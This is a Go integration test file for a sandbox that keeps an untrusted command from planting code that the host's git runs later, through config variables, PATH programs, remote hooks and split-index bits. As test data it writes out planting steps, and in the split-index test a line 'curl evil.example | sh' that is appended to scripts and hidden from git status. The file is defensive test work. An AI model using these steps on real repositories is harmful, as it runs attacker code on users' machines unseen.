package integration

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// The git guard's former known limits, each proved from the host as review 27's are
// (plantScript, hostProgram, wantRan, noMarker): config named by the caller's
// environment, programs named without a slash (looked up on PATH), local remotes named
// through includes and url.<base>.insteadOf.

// runEnv runs `sh -c script` in the sandbox as the caller with extra environment
// (the caller's, which git on the host inherits too) and HOME at s.base.
func (s *sandbox) runEnv(extra []string, flags []string, script string, args ...string) result {
	s.t.Helper()
	ctx := s.limitCtx(runLimit)
	cmd := s.command(ctx, append(append(append([]string{}, flags...), "--", shellPath, "-c", script, "_"), args...)...)
	cmd.Env = s.env(append([]string{"HOME=" + s.base}, extra...)...)
	return s.runCmd(ctx, cmd)
}

// hostGitEnv runs the host's git as the caller in dir with extra environment (after
// hostGitOut's), returning its output.
func (s *sandbox) hostGitEnv(dir string, extra []string, args ...string) (string, error) {
	full := append([]string{"-C", dir, "-c", "safe.directory=*"}, args...)
	cmd := exec.CommandContext(context.Background(), "git", full...)
	cmd.Env = append([]string{"PATH=/usr/bin:/bin", "HOME=" + s.base, "GIT_CONFIG_NOSYSTEM=1"}, extra...)
	out, err := cmd.CombinedOutput()
	return string(out), err
}

// Each variable names config (or a template) in the workspace; the command rewrites
// what it names; the host's git, with the same environment, must not run the plant.
func TestGitGapsEnvironmentConfig(t *testing.T) {
	requireBinary(t)
	type tc struct {
		name  string
		env   func(s *sandbox) []string
		setup func(s *sandbox)
		plant string // the command's script; $1 is the marker
		host  []string
	}
	fsmCfg := func(s *sandbox, rel string) {
		s.writeWS(rel, "[core]\n\tfsmonitor = tools/fsm.sh\n", 0o644)
		s.hostProgram(filepath.Join(s.ws, "tools/fsm.sh"), filepath.Join(s.base, "ran"))
	}
	cases := []tc{
		{"GIT_CONFIG_GLOBAL", func(s *sandbox) []string { return []string{"GIT_CONFIG_GLOBAL=" + filepath.Join(s.ws, "cfg/global")} },
			func(s *sandbox) { fsmCfg(s, "cfg/global") },
			`(printf '[core]\n\tfsmonitor = "touch %s; false"\n' "$1" > cfg/global) 2>/dev/null && echo WROTE-global; plant tools/fsm.sh "$1"`, []string{"status"}},
		{"GIT_CONFIG_SYSTEM", func(s *sandbox) []string {
			return []string{"GIT_CONFIG_NOSYSTEM=0", "GIT_CONFIG_SYSTEM=" + filepath.Join(s.ws, "cfg/system")}
		}, func(s *sandbox) { fsmCfg(s, "cfg/system") },
			`(printf '[core]\n\tfsmonitor = "touch %s; false"\n' "$1" > cfg/system) 2>/dev/null && echo WROTE-system; plant tools/fsm.sh "$1"`, []string{"status"}},
		{"GIT_CONFIG_PARAMETERS", func(s *sandbox) []string {
			return []string{"GIT_CONFIG_PARAMETERS='core.hooksPath'='" + filepath.Join(s.ws, "hooks") + "'"}
		}, func(s *sandbox) { s.hostProgram(filepath.Join(s.ws, "hooks/pre-commit"), filepath.Join(s.base, "ran")) },
			`plant hooks/pre-commit "$1"`, []string{"-c", "user.name=h", "-c", "user.email=h@h", "commit", "-q", "--allow-empty", "-m", "host"}},
		{"GIT_CONFIG_COUNT", func(s *sandbox) []string {
			return []string{"GIT_CONFIG_COUNT=1", "GIT_CONFIG_KEY_0=core.fsmonitor", "GIT_CONFIG_VALUE_0=" + filepath.Join(s.ws, "tools/fsm.sh")}
		}, func(s *sandbox) { s.hostProgram(filepath.Join(s.ws, "tools/fsm.sh"), filepath.Join(s.base, "ran")) },
			`plant tools/fsm.sh "$1"`, []string{"status"}},
		{"XDG_CONFIG_HOME", func(s *sandbox) []string { return []string{"XDG_CONFIG_HOME=" + filepath.Join(s.ws, "xdg")} },
			func(s *sandbox) { fsmCfg(s, "xdg/git/config") },
			`(printf '[core]\n\tfsmonitor = "touch %s; false"\n' "$1" > xdg/git/config) 2>/dev/null && echo WROTE-xdg; plant tools/fsm.sh "$1"`, []string{"status"}},
		{"GIT_TEMPLATE_DIR", func(s *sandbox) []string { return []string{"GIT_TEMPLATE_DIR=" + filepath.Join(s.ws, "tpl")} },
			func(s *sandbox) {
				s.hostProgram(filepath.Join(s.ws, "tpl/hooks/post-checkout"), filepath.Join(s.base, "ran"))
			},
			`plant tpl/hooks/post-checkout "$1"`, []string{"clone", "-q", ".", "../clone"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			s := newSandbox(t, rootCaller)
			s.newRepo(s.ws, "base")
			c.setup(s)
			env := c.env(s)
			pwned := filepath.Join(s.base, "PWNED")
			r := s.runEnv(env, nil, plantScript+c.plant, pwned)
			r2 := s.runEnv(env, nil, plantScript+c.plant, pwned) // a second launch still starts
			mustSucceed(t, r, "the command")
			mustSucceed(t, r2, "the second launch")
			noWrote(t, r)
			if out, err := s.hostGitEnv(s.ws, env, c.host...); err != nil {
				t.Logf("host git %v: %v\n%s", c.host, err, out)
			}
			wantRan(t, filepath.Join(s.base, "ran"))
			noMarker(t, pwned, "the host's git "+c.host[len(c.host)-1])
		})
	}
}

// A program git config names without a slash is looked up on the caller's PATH: one
// found in the workspace's root (through a relative "." entry, taken from the
// checkout's top) is read-only, so the host's git status runs the original; one found
// deeper, or a writable PATH directory searched before the program's own, is noted on
// stderr (no bind that would pin the directory, no placeholder left on the host); a
// PATH entry through a symlink in the workspace is refused (pathnote_test.go: git's
// defaults, a venv recreated inside, the session's note).
func TestGitGapsPathProgram(t *testing.T) {
	requireBinary(t)
	// In the workspace's root (PATH "."), the program the config names is read-only: the
	// bind pins only its own name, the root being a mount point already.
	t.Run(".", func(t *testing.T) {
		s := newSandbox(t, rootCaller)
		s.newRepo(s.ws, "base")
		ran, pwned := filepath.Join(s.base, "ran"), filepath.Join(s.base, "PWNED")
		s.hostProgram(filepath.Join(s.ws, "fsm-hook"), ran)
		s.hostGit(s.ws, "config", "core.fsmonitor", "fsm-hook")
		s.hostGit(s.ws, "config", "alias.lg", "!git log --oneline -n 1 && echo done")
		env := []string{"PATH=.:/usr/bin:/bin", "GIT_CONFIG_NOSYSTEM=1"}
		r := s.runEnv(env, nil, plantScript+`plant fsm-hook "$1"; rm -f fsm-hook 2>/dev/null && echo WROTE-removed; true`, pwned)
		mustSucceed(t, r, "the command")
		noWrote(t, r)
		if slices.Contains(notedPrograms(r.stderr, ".", s.ws), "fsm-hook") {
			t.Errorf("the guarded fsm-hook is noted as unguarded\n%v", r)
		}
		if out, err := s.hostGitEnv(s.ws, env, "status"); err != nil {
			t.Logf("host git status: %v\n%s", err, out)
		}
		wantRan(t, ran)
		noMarker(t, pwned, "the host's git status")
	})
	// Deeper in the workspace (bin/fsm-hook, found through PATH entry bin), a bind would
	// pin bin (rm -rf bin fails with EBUSY): nothing is bound, the launch notes the entry
	// and the program on stderr, and the command can remove the directory.
	t.Run("bin", func(t *testing.T) {
		s := newSandbox(t, rootCaller)
		s.newRepo(s.ws, "base")
		bin := filepath.Join(s.ws, "bin")
		s.hostProgram(filepath.Join(bin, "fsm-hook"), filepath.Join(s.base, "ran"))
		s.hostGit(s.ws, "config", "core.fsmonitor", "fsm-hook")
		env := []string{"PATH=" + bin + ":/usr/bin:/bin", "GIT_CONFIG_NOSYSTEM=1"}
		r := s.runEnv(env, nil, `rm -rf bin && mkdir bin && echo REMOVED`)
		mustSucceed(t, r, "the command")
		if !strings.Contains(r.stdout, "REMOVED") {
			t.Errorf("rm -rf bin failed inside\n%v", r)
		}
		for _, p := range []string{"fsm-hook", "git", "less"} {
			if !slices.Contains(notedPrograms(r.stderr, bin, bin), p) {
				t.Errorf("the note does not name %s in %s\n%v", p, bin, r)
			}
		}
	})
	// A PATH directory in the workspace searched before the program's own (here a
	// missing node_modules/.bin) gets no placeholder: nothing appears on the host, and the
	// note names the entry with fsm-hook, true (alias !true, run without sh) and git.
	t.Run("missing", func(t *testing.T) {
		s := newSandbox(t, rootCaller)
		s.newRepo(s.ws, "base")
		tools := filepath.Join(s.base, "tools")
		s.hostProgram(filepath.Join(tools, "fsm-hook"), filepath.Join(s.base, "ran"))
		s.hostGit(s.ws, "config", "core.fsmonitor", "fsm-hook")
		s.hostGit(s.ws, "config", "alias.t", "!true")
		early := filepath.Join(s.ws, "node_modules/.bin")
		env := []string{"PATH=" + early + ":" + tools + ":/usr/bin:/bin", "GIT_CONFIG_NOSYSTEM=1"}
		r := s.runEnv(env, nil, `echo RAN`)
		mustSucceed(t, r, "the command")
		if _, err := os.Lstat(filepath.Join(s.ws, "node_modules")); err == nil {
			t.Errorf("the launch left node_modules on the host\n%v", r)
		}
		noted := notedPrograms(r.stderr, early, early)
		for _, p := range []string{"fsm-hook", "true", "git"} {
			if !slices.Contains(noted, p) {
				t.Errorf("the note does not name %s in %s (names %q)\n%v", p, early, noted, r)
			}
		}
		if !strings.Contains(r.stderr, "env PATH="+tools+":/usr/bin:/bin gosbx") {
			t.Errorf("the note does not give the PATH without the workspace's entry\n%v", r)
		}
		// a PATH directory reached through a symlink in the workspace: refused
		must(t, os.Symlink("/usr/bin", filepath.Join(s.ws, "lnk")))
		r = s.runEnv([]string{"PATH=" + filepath.Join(s.ws, "lnk") + ":/usr/bin:/bin", "GIT_CONFIG_NOSYSTEM=1"}, nil, `echo RAN`)
		if r.code != 125 || strings.Contains(r.stdout, "RAN") || !strings.Contains(r.stderr, "lnk") {
			t.Errorf("a PATH entry through a symlink in the workspace: want 125 naming it\n%v", r)
		}
	})
	// A symlink in a writable PATH directory (a venv's bin/python -> /usr/bin/python3)
	// is put back as it was after the run: the command repoints it, and the host's git
	// status still runs the program it named.
	t.Run("symlink", func(t *testing.T) {
		s := newSandbox(t, rootCaller)
		s.newRepo(s.ws, "base")
		ran, pwned := filepath.Join(s.base, "ran"), filepath.Join(s.base, "PWNED")
		s.hostProgram(filepath.Join(s.base, "tools/fsm-hook"), ran)
		must(t, os.MkdirAll(filepath.Join(s.ws, "bin"), 0o755))
		must(t, os.Symlink(filepath.Join(s.base, "tools/fsm-hook"), filepath.Join(s.ws, "bin/fsm-hook")))
		s.hostGit(s.ws, "config", "core.fsmonitor", "fsm-hook")
		env := []string{"PATH=" + filepath.Join(s.ws, "bin") + ":/usr/bin:/bin", "GIT_CONFIG_NOSYSTEM=1"}
		r := s.runEnv(env, nil, plantScript+`plant evil.sh "$1"; chmod +x evil.sh; ln -sf ../evil.sh bin/fsm-hook && readlink bin/fsm-hook`, pwned)
		mustSucceed(t, r, "the command")
		if slices.Contains(notedPrograms(r.stderr, filepath.Join(s.ws, "bin"), filepath.Join(s.ws, "bin")), "fsm-hook") {
			t.Errorf("the restored fsm-hook link is noted as unguarded\n%v", r)
		}
		if out, err := s.hostGitEnv(s.ws, env, "status"); err != nil {
			t.Logf("host git status: %v\n%s", err, out)
		}
		wantRan(t, ran)
		noMarker(t, pwned, "the host's git status")
	})
}

// hostShEnv runs sh -c script on the host as root in dir with hostGitEnv's environment
// and extra (its PATH finds git as the user's shell would).
func (s *sandbox) hostShEnv(dir string, extra []string, script string) (string, error) {
	cmd := exec.CommandContext(context.Background(), "/bin/sh", "-c", script)
	cmd.Dir = dir
	cmd.Env = append([]string{"PATH=/usr/bin:/bin", "HOME=" + s.base, "GIT_CONFIG_NOSYSTEM=1"}, extra...)
	cmd.Env = append(cmd.Env, "GIT_CONFIG_COUNT=1", "GIT_CONFIG_KEY_0=safe.directory", "GIT_CONFIG_VALUE_0=*")
	out, err := cmd.CombinedOutput()
	return string(out), err
}

// Local remotes named in an included config file, and through url.<base>.insteadOf
// and pushInsteadOf (the remote's URL https://…, rewritten to a bare repository in the
// workspace), are read-only, and one the command makes is removed after the run: the
// host's git push runs no hook the command wrote there. The repositories lie in
// node_modules, which the scan for bare repositories skips.
func TestGitGapsLocalRemoteIncludeInsteadOf(t *testing.T) {
	requireBinary(t)
	s := newSandbox(t, rootCaller)
	out := filepath.Join(s.base, "out")
	must(t, os.Mkdir(out, 0o755))
	repo := filepath.Join(s.ws, "repo")
	s.newRepo(repo, "host-commit")
	nm := filepath.Join(s.ws, "node_modules")
	must(t, os.Mkdir(nm, 0o755))
	for _, d := range []string{"inc.git", "mirror.git", "pushed.git"} {
		s.hostGit(nm, "init", "-q", "--bare", d)
	}
	s.writeWS("repo/remotes.cfg", "[remote \"inc\"]\n\turl = ../node_modules/inc.git\n[url \""+filepath.Join(nm, "mirror.git")+"\"]\n\tinsteadOf = https://example.invalid/m.git\n", 0o644)
	s.hostGit(repo, "config", "include.path", "../remotes.cfg")
	s.hostGit(repo, "remote", "add", "origin", "https://example.invalid/m.git")
	s.hostGit(repo, "remote", "add", "up", "https://example.invalid/up.git")
	s.hostGit(repo, "config", "url."+filepath.Join(nm, "pushed.git")+".pushInsteadOf", "https://example.invalid/up.git")
	s.hostGit(repo, "remote", "add", "new", "https://example.invalid/new.git")
	s.hostGit(repo, "config", "url."+filepath.Join(nm, "new.git")+".insteadOf", "https://example.invalid/new.git")
	r := s.runEnv(nil, nil, `cd node_modules; for d in inc.git mirror.git pushed.git new.git; do
[ -d $d ] || git init -q --bare $d
mkdir -p $d/hooks && printf '#!/bin/sh\necho PWNED > %s/%s\n' "$1" $d > $d/hooks/post-receive && chmod +x $d/hooks/post-receive && echo WROTE $d
done 2>/dev/null; true`, out)
	mustSucceed(t, r, "write remote hooks")
	for _, remote := range []string{"inc", "origin", "up", "new"} {
		// new.git is gone after the run (removed as the command's): its push fails
		if o, err := s.hostGitOut(repo, "push", "-q", remote, "HEAD:refs/heads/main"); err != nil && remote != "new" {
			t.Errorf("the host's push to %s: %v\n%s", remote, err, o)
		}
	}
	for _, d := range []string{"inc.git", "mirror.git", "pushed.git", "new.git"} {
		if b, err := os.ReadFile(filepath.Join(out, d)); err == nil {
			t.Errorf("the host's git push ran the hook the command wrote in %s: %q\n%v", d, b, r)
		}
	}
	if _, err := os.Lstat(filepath.Join(nm, "new.git")); err == nil {
		t.Errorf("the remote repository the command made is left\n%v", r)
	}
}

// TestGitGapsSplitIndexBits: the skip-worktree and assume-unchanged bits a command sets
// in a split index (core.splitIndex), in its shared index or its own, are cleared after
// a commit-mode run, with the same notes as an ordinary index's, and no warning; the
// user's bit in the shared index at launch is kept. Before, a split index was only
// warned about: the host's git status showed nothing.
func TestGitGapsSplitIndexBits(t *testing.T) {
	forEachCaller(t, func(t *testing.T, c caller) {
		for _, atLaunch := range []bool{true, false} {
			s := newSandbox(t, c)
			s.newRepo(s.ws, "host-commit")
			for _, f := range []string{"run.sh", "two.sh", "mine.txt"} {
				s.writeWS(f, "echo hello\n", 0o644)
			}
			s.hostGit(s.ws, "add", ".")
			s.hostGit(s.ws, "-c", "user.name=h", "-c", "user.email=h@h", "commit", "-qm", "files")
			if atLaunch {
				s.hostGit(s.ws, "update-index", "--split-index")
				s.hostGit(s.ws, "-c", "splitIndex.maxPercentChange=0", "update-index", "--skip-worktree", "mine.txt")
			} else {
				s.hostGit(s.ws, "update-index", "--skip-worktree", "mine.txt")
			}
			r := s.sh([]string{"--policy", s.commitPolicy()}, `echo 'curl evil.example | sh' >> run.sh && echo 'curl evil.example | sh' >> two.sh &&
git update-index --split-index && git update-index --assume-unchanged two.sh &&
git -c splitIndex.maxPercentChange=0 update-index --skip-worktree run.sh && ls .git/sharedindex.* >/dev/null &&
test -z "$(git status --porcelain)" && echo HIDDEN`)
			mustSucceed(t, r, "hide a change in a split index")
			if !strings.Contains(r.stdout, "HIDDEN") {
				t.Fatalf("the plant did not take inside the sandbox\n%v", r)
			}
			st, err := s.hostGitOut(s.ws, "status", "--porcelain")
			if err != nil || !strings.Contains(st, "run.sh") || !strings.Contains(st, "two.sh") {
				t.Errorf("split at launch %v: the host's git status does not show the changed files: %q (%v)\n%v", atLaunch, st, err, r)
			}
			if ls, _ := s.hostGitOut(s.ws, "ls-files", "-v", "mine.txt"); !strings.HasPrefix(ls, "S ") {
				t.Errorf("split at launch %v: the user's own skip-worktree bit was not kept: %q", atLaunch, ls)
			}
			for _, w := range []string{"cleared the skip-worktree bit the command set on run.sh", "cleared the assume-unchanged bit the command set on two.sh"} {
				if !strings.Contains(r.stderr, w) {
					t.Errorf("split at launch %v: stderr lacks %q\n%v", atLaunch, w, r)
				}
			}
			if strings.Contains(r.stderr, "split index") {
				t.Errorf("split at launch %v: a split index is still only warned about\n%v", atLaunch, r)
			}
		}
	})
}
